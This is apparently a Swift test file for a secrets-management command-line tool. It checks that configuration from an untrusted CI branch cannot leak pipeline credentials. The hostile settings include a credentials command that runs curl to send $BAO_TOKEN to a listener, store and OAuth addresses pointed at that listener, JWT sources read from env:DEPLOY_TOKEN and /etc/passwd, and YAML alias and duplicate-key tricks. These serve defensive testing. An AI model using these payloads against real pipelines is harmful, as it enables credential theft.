import Foundation
import TestServer
import TestSupport
import Testing

/// A project with a trusted file, and a branch that an attacker writes.
struct HostileRequest {
  /// Which service runs the pipeline, or what else says where trust comes from.
  enum Pipeline: CaseIterable { case gitHub, gitLab, option, none, digest }

  /// What the pipeline has.
  static let credentials = [
    "BAO_TOKEN": "s3cr3t-bao-token", "VAULT_TOKEN": "s3cr3t-vault-token",
    "BAO_ROLE_ID": "s3cr3t-role", "BAO_SECRET_ID": "s3cr3t-id", "CI_JOB_JWT": "s3cr3t-jwt",
    "AUTH0_CLIENT_ID": "s3cr3t-client", "AUTH0_CLIENT_SECRET": "s3cr3t-auth0",
    "AUTH0_API_TOKEN": "s3cr3t-api", "AUTH0_DOMAIN": "acme.example.com",
    "DEPLOY_TOKEN": "s3cr3t-deploy",
  ]

  static let commands = [
    ["plan", "--format", "markdown"], ["plan", "--offline"], ["status"], ["validate"],
    ["diff", "refs/heads/main"], ["refresh"], ["import"], ["exec", "chat", "--", "true"],
    ["ledger", "show"], ["apply", "--auto-approve"],
  ]

  let sandbox: Sandbox
  let listener: UninvitedListener
  /// The trusted store: it refuses every login.
  let friend: LoopbackServer
  var canary: String { sandbox.home.path + "/canary" }

  /// - Parameter extra: of the trusted project file, by the address of its store.
  init(_ extra: (_ friend: String) -> String) async throws {
    sandbox = try Sandbox(isTrusted: false)
    listener = try UninvitedListener()
    friend = try await LoopbackServer { _ in .whole(status: 403) }
    try sandbox.writeProject(extra: extra(friend.address))
    try sandbox.write("s3cr3t-token-file", to: ".vault-token")
    #expect(
      try sandbox.vaultctl(["new", "chat", "--app", "slack", "--empty"], isRecorded: false)
        .status == 0)
  }

  func commit() throws {
    for arguments in [
      ["init", "--quiet", "--initial-branch=main"], ["add", "--all"],
      ["commit", "--quiet", "--allow-empty", "-m", "x"],
      ["update-ref", "refs/remotes/origin/main", "HEAD"], ["checkout", "--quiet", "-B", "evil"],
    ] {
      let finished = try sandbox.git(arguments)
      #expect(finished.status == 0, "\(finished.errorText)")
    }
  }

  func variables(_ pipeline: Pipeline) -> [String: String] {
    switch pipeline {
    case .gitHub: ["GITHUB_EVENT_NAME": "pull_request", "GITHUB_BASE_REF": "main"]
    case .gitLab: ["CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main"]
    case .digest: ["VAULTCTL_TRUST_DIGEST": "sha256:" + String(repeating: "0", count: 64)]
    case .option, .none: [:]
    }
  }

  /// Runs commands, and expects silence.
  ///
  /// - Parameter arguments: of each command.
  func run(
    _ pipeline: Pipeline, _ arguments: [String] = [], _ what: String,
    commands: some Sequence<[String]> = Self.commands
  ) async throws {
    let option = pipeline == .option ? ["--trust-ref", "refs/remotes/origin/main"] : []
    let environment = Self.credentials.merging(variables(pipeline)) { $1 }
    for command in commands {
      let separator = command.firstIndex(of: "--") ?? command.count
      let words =
        command[..<separator] + arguments + option + command[separator...]
      let finished = try await apart { [sandbox] in
        try sandbox.vaultctl(Array(words), environment: environment, isRecorded: false)
      }
      let text = finished.text + finished.errorText
      #expect(finished.status != 70, "\(what) \(command): \(text)")
      #expect(!text.contains("s3cr3t"), "\(what) \(command): \(text)")
      #expect(listener.heard.isEmpty, "\(what) \(command): \(listener.heard)")
      #expect(!FileManager.default.fileExists(atPath: canary), "\(what) \(command)")
    }
  }

  func plan(_ pipeline: Pipeline) async throws -> Finished {
    let variables = variables(pipeline)
    return try await apart { [sandbox] in
      try sandbox.vaultctl(["plan"], environment: variables, isRecorded: false)
    }
  }

  static func store(at address: String) -> String {
    "store: {type: openbao, address: \"\(address)\"}"
  }

  /// The settings of a hostile branch.
  var settings: [(String, String)] {
    let (address, trusted) = (listener.address, friend.address)
    let run = "[sh, -c, \"touch \(canary); curl -s \(address)/$BAO_TOKEN\"]"
    return [
      ("address", "store: {type: openbao, address: \"\(address)\"}"),
      (
        "command",
        "store: {type: openbao, address: \"\(trusted)\", credentialsCommand: \(run)}"
      ),
      (
        "endpoints",
        """
        apps:
          slack:
            setups: [{type: oauth, grant: client_credentials, fields: [{name: client_id}]}]
            oauth: {tokenEndpoint: "\(address)/token", introspectionEndpoint: "\(address)/i"}
        """
      ),
      (
        "roles",
        "store: {type: openbao, address: \"\(address)\", login: {method: approle}}"
      ),
      (
        "any variable",
        "store: {type: openbao, address: \"\(address)\", login: {method: jwt, role: x, jwtFrom: \"env:DEPLOY_TOKEN\"}}"
      ),
      (
        "any file",
        "store: {type: openbao, address: \"\(address)\", login: {method: jwt, role: x, jwtFrom: \"file:/etc/passwd\"}}"
      ),
      (
        "tenant",
        "store: {type: auth0, domain: acme.example.com, baseURL: \"\(address)\", ledger: {type: sqlite, path: l.db}}"
      ),
      (
        "tenant's command",
        "store: {type: auth0, domain: acme.example.com, credentialsCommand: \(run), ledger: {type: sqlite, path: l.db}}"
      ),
      (
        "alias and escapes",
        "store:\n  type: &t openbao\n  namespace: *t\n  \"\\u0061ddress\": >-\n    \(address)\n"
      ),
      (
        "new environment", "environments: {prod: {store: {type: openbao, address: \"\(address)\"}}}"
      ),
      (
        "more than one document",
        "---\nstore: {type: openbao, address: \"\(address)\"}"
      ),
      (
        "twice",
        "store: {type: openbao, address: \"\(trusted)\"}\nstore: {type: openbao, address: \"\(address)\"}"
      ),
    ]
  }
}
